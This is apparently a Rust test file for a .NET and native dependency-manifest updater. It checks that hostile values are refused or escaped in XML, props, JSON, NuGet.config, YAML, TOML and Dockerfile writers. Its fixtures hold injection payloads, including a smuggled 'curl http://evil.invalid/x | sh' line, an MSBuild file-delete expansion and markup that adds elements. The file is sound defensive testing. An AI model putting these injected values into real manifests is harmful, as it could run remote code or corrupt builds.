//! Every writer given hostile values: each is refused with an error naming the file,
//! the dependency and the reason, or escaped so that reading the file back yields
//! exactly the value and the structure is unchanged.

use super::Refusal;
use crate::manifest::json::Json;
use crate::manifest::native::yaml_tree::YamlNode;
use crate::manifest::version_details::VersionDetails;
use crate::manifest::xml::XmlDoc;
use crate::manifest::{
    BuildUpdate, Changes, Dependency, ManifestError, ManifestFiles, add, list, paths, update,
};

const VDX: &str = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<Dependencies>\n  <ProductDependencies>\n    <Dependency Name=\"Contoso.Runtime\" Version=\"1.0.0\">\n      <Uri>https://github.com/contoso/runtime</Uri>\n      <Sha>aaaaaaa</Sha>\n    </Dependency>\n  </ProductDependencies>\n  <ToolsetDependencies>\n    <Dependency Name=\"Contoso.Sdk\" Version=\"2.0.0\">\n      <Uri>https://github.com/contoso/runtime</Uri>\n      <Sha>aaaaaaa</Sha>\n    </Dependency>\n  </ToolsetDependencies>\n</Dependencies>\n";
const PROPS: &str = "<Project>\n  <PropertyGroup>\n    <ContosoRuntimePackageVersion>1.0.0</ContosoRuntimePackageVersion>\n  </PropertyGroup>\n</Project>\n";
const GLOBAL: &str = "{\n  \"tools\": {\n    \"dotnet\": \"9.0.100\"\n  },\n  \"msbuild-sdks\": {\n    \"Contoso.Sdk\": \"2.0.0\"\n  }\n}\n";
const TOOLS: &str = "{\n  \"version\": 1,\n  \"isRoot\": true,\n  \"tools\": {\n    \"contoso.sdk\": {\n      \"version\": \"2.0.0\",\n      \"commands\": [\"contoso\"]\n    }\n  }\n}\n";
const INJECTED: &str = "9.0.2\nRUN curl http://evil.invalid/x | sh\n#";

fn eng() -> ManifestFiles {
    [
        (paths::VERSION_DETAILS_XML, VDX),
        (paths::VERSIONS_PROPS, PROPS),
        (paths::GLOBAL_JSON, GLOBAL),
        (paths::TOOLS_CONFIG_JSON, TOOLS),
    ]
    .into_iter()
    .map(|(p, t)| (p.to_string(), t.as_bytes().to_vec()))
    .collect()
}

fn build(repo: &str, assets: &[(&str, &str)]) -> BuildUpdate {
    crate::manifest::fixture::build(repo, "bbbbbbb", assets)
}

const RT: &str = "https://github.com/contoso/runtime";

/// The refusal of `result`, checked to name `file` and `dependency`.
fn refused(result: Result<Changes, ManifestError>, file: &str, dependency: &str) -> Refusal {
    match result {
        Err(ManifestError::Refused(r)) => {
            assert_eq!(r.file, file, "{r}");
            assert_eq!(r.dependency, format!("{dependency:?}"), "{r}");
            r.reason
        }
        other => panic!("expected a refusal of {file}, got {other:?}"),
    }
}

fn text<'a>(changes: &'a Changes, path: &str) -> &'a [u8] {
    changes.files.get(path).map_or(&[][..], |v| v.as_slice())
}

#[test]
fn a_line_break_in_a_version_is_refused_before_any_file() {
    let r = update(&eng(), &build(RT, &[("Contoso.Runtime", INJECTED)]));
    let reason = refused(r, paths::VERSION_DETAILS_XML, "Contoso.Runtime");
    assert_eq!(reason, Refusal::Control('\n'));
    let e = update(&eng(), &build(RT, &[("Contoso.Runtime", INJECTED)])).expect_err("refused");
    assert!(
        e.to_string().starts_with(
            "eng/Version.Details.xml: refusing version \"9.0.2\\nRUN curl http://evil.invalid"
        ),
        "{e}"
    );
    let r = update(
        &eng(),
        &build("https://x\n<Evil/>", &[("Contoso.Runtime", "1.1")]),
    );
    assert_eq!(
        refused(r, paths::VERSION_DETAILS_XML, "Contoso.Runtime"),
        Refusal::Control('\n')
    );
}

#[test]
fn xml_markup_in_values_is_escaped_and_reads_back_exactly() {
    let hostile =
        "1.1\" Pinned=\"True\"></Dependency><Dependency Name=\"Evil\" Version=\"6.6.6\">&x";
    let changes = update(&eng(), &build(RT, &[("Contoso.Runtime", hostile)])).expect("escapes");
    let vdx = VersionDetails::parse(text(&changes, paths::VERSION_DETAILS_XML)).expect("parses");
    let names: Vec<&str> = vdx.entries.iter().map(|d| &*d.name).collect();
    assert_eq!(names, ["Contoso.Runtime", "Contoso.Sdk"]);
    assert_eq!(vdx.entries[0].version, hostile);
    assert!(!vdx.entries[0].pinned);
    let props_text = text(&changes, paths::VERSIONS_PROPS);
    let props = XmlDoc::parse(props_text).expect("parses");
    assert_eq!(
        props.elements.len(),
        3,
        "Project, PropertyGroup, one property"
    );
    assert_eq!(props.text(2), hostile);
}

#[test]
fn msbuild_expansions_are_refused_in_props() {
    for (version, c) in [
        ("$([System.IO.File]::Delete('x'))", '$'),
        ("@(Compile)", '@'),
        ("1.0;Evil=1", ';'),
    ] {
        let r = update(&eng(), &build(RT, &[("Contoso.Runtime", version)]));
        let reason = refused(r, paths::VERSIONS_PROPS, "Contoso.Runtime");
        assert_eq!(reason, Refusal::MsBuild(c), "{version}");
    }
    let mut files = eng();
    files.remove(paths::VERSIONS_PROPS);
    files.insert(
        paths::VERSION_DETAILS_PROPS.into(),
        b"<Project />\n".to_vec(),
    );
    let r = update(&files, &build(RT, &[("Contoso.Runtime", "$(Evil)")]));
    assert_eq!(
        refused(r, paths::VERSION_DETAILS_PROPS, "Contoso.Runtime"),
        Refusal::MsBuild('$')
    );
}

#[test]
fn property_names_and_comment_labels_cannot_carry_markup() {
    let dep = Dependency::new("Evil><Target Name=\"x\"/><X", "1.0.0", RT, "bbbbbbb");
    let r = add(&eng(), &dep);
    assert_eq!(
        refused(r, paths::VERSIONS_PROPS, &dep.name),
        Refusal::PropertyName
    );
    let mut files = eng();
    files.remove(paths::VERSIONS_PROPS);
    files.insert(
        paths::VERSION_DETAILS_PROPS.into(),
        b"<Project />\n".to_vec(),
    );
    let r = add(&files, &dep);
    assert_eq!(
        refused(r, paths::VERSION_DETAILS_PROPS, &dep.name),
        Refusal::PropertyName
    );
    let repo = "https://github.com/contoso/run--><Import Project=\"evil\"/><!--";
    let r = update(&files, &build(repo, &[("Contoso.Runtime", "1.1.0")]));
    assert_eq!(
        refused(r, paths::VERSION_DETAILS_PROPS, "Contoso.Runtime"),
        Refusal::CommentDashes
    );
}

#[test]
fn json_strings_are_escaped_and_read_back_exactly() {
    let hostile = "2.1\",\"Evil.Sdk\":\"6.6.6\\";
    let changes = update(&eng(), &build(RT, &[("Contoso.Sdk", hostile)])).expect("escapes");
    for (path, route, members) in [
        (paths::GLOBAL_JSON, &["msbuild-sdks", "Contoso.Sdk"][..], 1),
        (
            paths::TOOLS_CONFIG_JSON,
            &["tools", "contoso.sdk", "version"],
            2,
        ),
    ] {
        let json = Json::parse(text(&changes, path)).expect("parses");
        assert_eq!(
            json.path(route).and_then(Json::as_str),
            Some(hostile),
            "{path}"
        );
        let parent = json.path(&route[..route.len() - 1]).expect("parent");
        assert_eq!(parent.members().len(), members, "{path}: no member added");
    }
}

#[test]
fn a_control_character_in_the_sdk_version_is_refused() {
    let mut b = build(RT, &[("Contoso.Sdk", "2.1.0")]);
    b.source_global_json = Some(b"{\"tools\": {\"dotnet\": \"99.0.100\\u0000\"}}".to_vec());
    let r = update(&eng(), &b);
    assert_eq!(
        refused(r, paths::GLOBAL_JSON, "tools.dotnet"),
        Refusal::Control('\0')
    );
}

#[test]
fn nuget_feed_locations_with_line_breaks_are_refused() {
    let mut files = eng();
    files.insert(
        "NuGet.config".into(),
        b"<configuration>\n  <packageSources>\n    <clear />\n  </packageSources>\n</configuration>\n"
            .to_vec(),
    );
    let feed = "https://x.azurewebsites.net/container/a\n\" evil=\"1/sig/abc/se/2024-01-01/darc-pub-contoso-runtime-0123456/index.json";
    let mut b = build(RT, &[("Contoso.Runtime", "1.1.0")]);
    b.assets[0].locations = vec![feed.into()];
    let r = update(&files, &b);
    assert_eq!(
        refused(r, "NuGet.config", "Contoso.Runtime"),
        Refusal::Control('\n')
    );
}

const NATIVE: &str = "dependencies:\n  - name: Contoso.Runtime\n    version: 1.0.0\n    repository: https://github.com/contoso/runtime\n    commit: aaaaaaa\n    references:\n      - file: Cargo.toml\n        toml: workspace.dependencies.contoso-runtime.version\n      - file: values.yaml\n        yaml: image.tag\n";
const DOCKER: &str = "  - name: Contoso.Image\n    version: 1.0.0\n    repository: https://github.com/contoso/runtime\n    commit: aaaaaaa\n    references:\n      - file: Dockerfile\n        regex: 'FROM contoso/runtime:(?P<version>\\S+)'\n";

fn native() -> ManifestFiles {
    [
        (paths::NATIVE, format!("{NATIVE}{DOCKER}")),
        (
            "Cargo.toml",
            "[workspace.dependencies]\ncontoso-runtime = { version = '1.0.0' }\n".into(),
        ),
        (
            "values.yaml",
            "image:\n  tag: '1.0.0'\n  pull: Always\n".into(),
        ),
        (
            "Dockerfile",
            "FROM contoso/runtime:1.0.0 AS build\nRUN make\n".into(),
        ),
    ]
    .into_iter()
    .map(|(p, t)| (p.to_string(), t.into_bytes()))
    .collect()
}

#[test]
fn yaml_keys_cannot_be_injected_into_the_native_manifest() {
    for name in ["Contoso.Runtime", "Contoso.Image"] {
        let r = update(&native(), &build(RT, &[(name, "1.1\nkey: value")]));
        assert_eq!(refused(r, paths::NATIVE, name), Refusal::Control('\n'));
    }
    let dep = Dependency::new("Evil", "1.0\n  - name: Injected", RT, "bbbbbbb");
    let r = add(&native(), &dep);
    assert_eq!(refused(r, paths::NATIVE, "Evil"), Refusal::Control('\n'));
}

#[test]
fn yaml_and_toml_scalars_are_quoted_and_read_back_exactly() {
    for hostile in [
        "1.1: x #c",
        "1.1' x",
        "\"1.1\"",
        "1.1\" evil = 1",
        "true",
        "- x",
    ] {
        let changes = update(&native(), &build(RT, &[("Contoso.Runtime", hostile)]))
            .unwrap_or_else(|e| panic!("{hostile:?}: {e}"));
        let mut after = native();
        after.extend(changes.files.clone());
        assert_eq!(list(&after).expect("parses")[0].version, hostile);
        let cargo = std::str::from_utf8(&after["Cargo.toml"]).expect("utf8");
        let toml = toml_edit::Document::parse(cargo).expect("parses");
        let entry = toml["workspace"]["dependencies"]["contoso-runtime"]
            .as_inline_table()
            .expect("inline table");
        assert_eq!(entry.len(), 1, "{cargo}");
        assert_eq!(entry.get("version").and_then(|v| v.as_str()), Some(hostile));
        let values = std::str::from_utf8(&after["values.yaml"]).expect("utf8");
        let yaml = YamlNode::parse(values).expect("parses");
        let tag = yaml.path("image.tag").expect("tag");
        assert_eq!(
            tag.value,
            crate::manifest::native::yaml_tree::YamlValue::Scalar(hostile.into())
        );
        assert!(yaml.path("image.pull").is_some(), "{values}");
    }
}

#[test]
fn regex_references_refuse_values_outside_their_grammar() {
    let r = update(&native(), &build(RT, &[("Contoso.Image", "9.0.2 AS x")]));
    let reason = refused(r, "Dockerfile", "Contoso.Image");
    assert_eq!(
        reason.to_string(),
        "regex FROM contoso/runtime:(?P<version>\\S+) would read back \"9.0.2\" instead, \
         at 1 spot(s) where there were 1"
    );
    let changes = update(&native(), &build(RT, &[("Contoso.Image", "9.0.2-rc.1_x")]))
        .expect("within the grammar");
    assert_eq!(
        text(&changes, "Dockerfile"),
        b"FROM contoso/runtime:9.0.2-rc.1_x AS build\nRUN make\n"
    );
}

#[test]
fn dependencies_without_a_property_may_have_any_name() {
    let vdx = VDX.replace(
        "<Dependency Name=\"Contoso.Runtime\"",
        "<Dependency Name=\"assets/runtime.zip\" SkipProperty=\"True\"",
    );
    let mut files = eng();
    files.insert(paths::VERSION_DETAILS_XML.into(), vdx.clone().into_bytes());
    files.remove(paths::VERSIONS_PROPS);
    files.insert(
        paths::VERSION_DETAILS_PROPS.into(),
        b"<Project />\n".to_vec(),
    );
    let changes = update(&files, &build(RT, &[("assets/runtime.zip", "1.1.0")])).expect("updates");
    assert_eq!(changes.updates.len(), 1);
    files.insert(
        paths::VERSION_DETAILS_XML.into(),
        vdx.replace(" SkipProperty=\"True\"", "").into_bytes(),
    );
    let r = update(&files, &build(RT, &[("assets/runtime.zip", "1.1.0")]));
    assert_eq!(
        refused(r, paths::VERSION_DETAILS_PROPS, "assets/runtime.zip"),
        Refusal::PropertyName
    );
}
